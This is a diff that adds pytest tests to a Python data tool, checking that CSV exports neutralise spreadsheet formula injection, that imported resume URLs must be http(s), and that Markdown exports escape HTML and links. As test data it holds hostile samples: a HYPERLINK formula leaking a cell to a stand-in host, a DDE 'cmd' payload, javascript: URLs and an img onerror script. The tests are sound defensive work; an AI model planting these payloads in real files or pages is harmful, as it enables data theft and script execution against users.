@@ -9,12 +9,14 @@ import sys
 import zipfile
 from pathlib import Path
 
+import polars as pl
 import pytest
 from typer.testing import CliRunner
 
 from command_center import cli
 from command_center.io import ImportFailed, read_table_file
 from tests.conftest import use_db
+from tests.test_recruiting_fixtures import rdb, recruiting_host  # noqa: F401
 
 runner = CliRunner()
 
@@ -220,3 +222,83 @@ def test_a_csv_with_too_many_columns_is_refused_before_parsing(tmp_path) -> None
     quoted = tmp_path / "quoted.csv"
     quoted.write_text('"' + "," * 300 + '",b\n1,2\n', encoding="utf-8")
     assert read_table_file(quoted).columns == ["," * 300, "b"]
+
+
+# -- CSV and Markdown injection ---------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1)"]
+
+
+def test_csv_safe_neutralises_text_and_keeps_numbers() -> None:
+    from command_center.io import csv_safe
+
+    names = [*HOSTILE, "+1 555", "-Bob", "\tx", "\rx", "Ann", "-5", "+1.5e3", None]
+    frame = pl.DataFrame({"name": names, "revenue": [-5.5] * len(names), "n": [-1] * len(names)})
+    safe = csv_safe(frame)
+    assert safe["name"].to_list() == [
+        *(f"'{v}" for v in HOSTILE),
+        "'+1 555",
+        "'-Bob",
+        "'\tx",
+        "'\rx",
+        "Ann",
+        "-5",
+        "+1.5e3",
+        None,
+    ]
+    assert safe.select("revenue", "n").equals(frame.select("revenue", "n"))
+    categorical = csv_safe(pl.DataFrame({"c": pl.Series(["=1+1", "a"], dtype=pl.Categorical)}))
+    assert categorical["c"].to_list() == ["'=1+1", "a"]
+
+
+def test_csv_exports_are_neutralised(tmp_path) -> None:
+    from command_center.io import write_table_file
+
+    frame = pl.DataFrame({"name": HOSTILE, "revenue": [-5.0, 1.0, 2.0]})
+    write_table_file(frame, tmp_path / "out.csv")
+    written = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
+    assert written["name"].to_list() == [f"'{v}" for v in HOSTILE]
+    assert written["revenue"].to_list() == ["-5.0", "1.0", "2.0"]
+
+
+def test_csv_text_for_stdout_and_downloads_is_neutralised() -> None:
+    from command_center.io import csv_text
+
+    frame = pl.DataFrame({"name": ["=cmd|' /C calc'!A0"], "value": [-3.0]})
+    assert csv_text(frame).splitlines() == ["name,value", "'=cmd|' /C calc'!A0,-3.0"]
+
+
+def test_imported_resume_url_must_be_http(rdb, tmp_path) -> None:  # noqa: F811
+    from command_center.io import run_import
+
+    host = recruiting_host()
+    openings = tmp_path / "o.csv"
+    openings.write_text(
+        "opening_id,title,level,region,headcount,opened_on,closed_on,hiring_manager_id,"
+        "channels,description,pay_min,pay_max\n"
+        "1,Rep,rep,,2,2026-01-05,,3,company_site,,,\n",
+        encoding="utf-8",
+    )
+    run_import(rdb.engine, host, "openings", openings)
+    path = tmp_path / "c.csv"
+    path.write_text(
+        "candidate_id,opening_id,name,phone,email,source,referrer_id,applied_on,resume_url,stage\n"
+        "1,1,A,138,,job_board,,2026-01-20,javascript:alert(1),\n"
+        "2,1,B,139,,job_board,,2026-01-20, https://hr.example.com/r/2.pdf,\n"
+        "3,1,C,137,,job_board,,2026-01-20,,\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(ImportFailed) as info:
+        run_import(rdb.engine, host, "candidates", path)
+    assert info.value.errors == [f"{path}:2: resume_url: not an http:// or https:// link"]
+
+
+def test_markdown_packs_escape_html_and_links() -> None:
+    from plugins.team_events import export
+
+    hostile = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) a|b\nc & d"
+    assert export.md(hostile) == (
+        "&lt;img src=x onerror=alert(1)&gt; \\[click\\](javascript:alert(1)) a\\|b c &amp; d"
+    )
+    table = export._md_table(pl.DataFrame({"Name": [hostile], "Revenue": [-5.0]}))
+    assert "<img" not in table and "&lt;img" in table and "| -5 |" in table
